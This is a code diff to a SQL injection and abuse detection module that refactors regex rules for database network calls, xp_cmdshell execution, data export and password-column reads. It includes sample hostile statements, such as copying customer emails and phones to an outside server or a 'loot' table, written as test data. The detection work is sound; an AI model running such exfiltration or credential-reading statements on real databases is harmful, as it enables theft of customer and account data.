@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import re
 
-from daswatch.sql.signal_table.model import START, Pattern, Signal
+from daswatch.sql.signal_table.model import ALL, START, Pattern, Signal
 
 _PG = ("postgresql",)
 _MYSQL = ("mysql",)
@@ -48,6 +48,9 @@ _OPENS_PATHS = _words(
     " fn_xe_file_target_read_file fn_trace_gettable fn_trace_getinfo fn_get_audit_file fn_dump_dblog"
     " dm_os_file_exists dm_os_enumerate_filesystem backup restore bulk openrowset filename sp_addumpdevice"
     " sp_trace_create sp_attach_db certificate assembly"
+)
+_PASSWORDS = _words(
+    "password passwd pwd pass user_pass password_hash passwordhash pass_hash encrypted_password passhash"
 )
 _UNTRUSTED = _words("plperlu plpythonu plpython2u plpython3u pltclu plsh c")
 
@@ -141,7 +144,8 @@ _NETWORK_CALL = Signal(
         Pattern(
             _PG,
             ("server",),
-            r"\bcreate server [^;]{1,400}foreign data wrapper (?!file_fdw|log_fdw)\w|\balter server [^;]{1,200}options\("
+            r"\bcreate server [^;]{1,400}foreign data wrapper (?!file_fdw|log_fdw)\w"
+            r"|\balter server [^;]{1,200}options\("
             r"|\bimport foreign schema\b|\bcreate foreign table\b|\b(?:create|alter) user mapping\b",
         ),
         Pattern(_PG, ("subscription",), r"\b(?:create|alter) subscription [^;]{1,200}\bconnection ?[?$]"),
@@ -528,7 +532,8 @@ _PROGRAM_EXECUTION = Signal(
         Pattern(
             _SQLSERVER,
             ("synonym",),
-            r"\bcreate synonym [\w$#.]{1,200} for [\w$#.]{0,200}\b(?:xp_cmdshell|sp_oa\w++|sp_execute_external_script)\b",
+            r"\bcreate synonym [\w$#.]{1,200} for [\w$#.]{0,200}"
+            r"\b(?:xp_cmdshell|sp_oa\w++|sp_execute_external_script)\b",
         ),
         Pattern(_SQLSERVER, ("dbcc",), r"\bdbcc addextendedproc\b"),
         _procedures("sp_add_jobstep", "sp_update_jobstep", raw=r"'(?:cmdexec|powershell|activescripting|ssis)'"),
@@ -675,7 +680,7 @@ _EXPORT = Signal(
             "exec msdb.dbo.rds_backup_database @source_db_name='store', @s3_arn_to_backup_to='arn:aws:s3:::b/s.bak'",
             "exec msdb.dbo.rds_upload_to_s3 @rds_file_path='D:\\S3\\a.csv', @s3_arn_of_file='arn:aws:s3:::b/a.csv'",
             "BACKUP DATABASE [store] TO URL = 'https://203.0.113.9/s.bak'",
-            "INSERT INTO OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select * from l.dbo.c') SELECT * FROM dbo.c",
+            "INSERT INTO OPENROWSET('SQLNCLI', 'Server=203.0.113.9;Uid=sa', 'select * from l') SELECT * FROM dbo.c",
             "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
             "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
         ),
@@ -804,7 +809,8 @@ _DUMP_QUERY = Signal(
 )
 
 _AGGREGATE = {
-    "postgresql": r"(?:jsonb?_agg\(|json_arrayagg\(|xmlagg\(|(?:array_to_json|to_jsonb?)\(array_agg\(|array_to_string\(array\(select "
+    "postgresql": r"(?:jsonb?_agg\(|json_arrayagg\(|xmlagg\(|(?:array_to_json|to_jsonb?)\(array_agg\("
+    r"|array_to_string\(array\(select "
     r"|(?:string_agg|array_agg)\((?=[^()]{0,200}(?:::text|\|\||concat|to_json|\brow\(|\.\*)))",
     "mysql": r"(?:json_arrayagg\(|group_concat\((?=[^()]{0,200}(?:,|concat|hex)))",
     "oracle": r"(?:json_arrayagg\(|xmlagg\(|sys_xmlagg\(|(?:listagg|wm_concat)\((?=[^()]{0,200}(?:\|\||concat)))",
@@ -1028,7 +1034,8 @@ _CREDENTIAL_READ = Signal(
         Pattern(
             _MYSQL,
             ("authentication_string", "plugin_auth_string"),
-            r"\bselect\b[^;]{0,1500}\bauthentication_string\b[^;]{0,400}\bfrom\b|\bauthentication_string (?:r?like|regexp)\b",
+            r"\bselect\b[^;]{0,1500}\bauthentication_string\b[^;]{0,400}\bfrom\b"
+            r"|\bauthentication_string (?:r?like|regexp)\b",
         ),
         Pattern(
             _MYSQL,
@@ -1089,12 +1096,9 @@ _CREDENTIAL_READ = Signal(
         Pattern(_SQLSERVER, ("certprivatekey",), r"\bcertprivatekey\("),
         # An injected query that reads the accounts of an application.
         Pattern(
-            ("postgresql", "mysql", "oracle", "sqlserver"),
-            _words(
-                "password passwd pwd pass user_pass password_hash passwordhash pass_hash encrypted_password passhash"
-            ),
-            r"\bunion (?:all )?select\b[^;]{0,400}?(?<![\w$])(?:password|passwd|pwd|pass|user_pass|password_hash|passwordhash"
-            r"|pass_hash|encrypted_password|passhash)\b[^;]{0,200}?\bfrom\b",
+            ALL,
+            _PASSWORDS,
+            rf"\bunion (?:all )?select\b[^;]{{0,400}}?(?<![\w$]){_any(*_PASSWORDS)}\b[^;]{{0,200}}?\bfrom\b",
         ),
     ),
     samples={
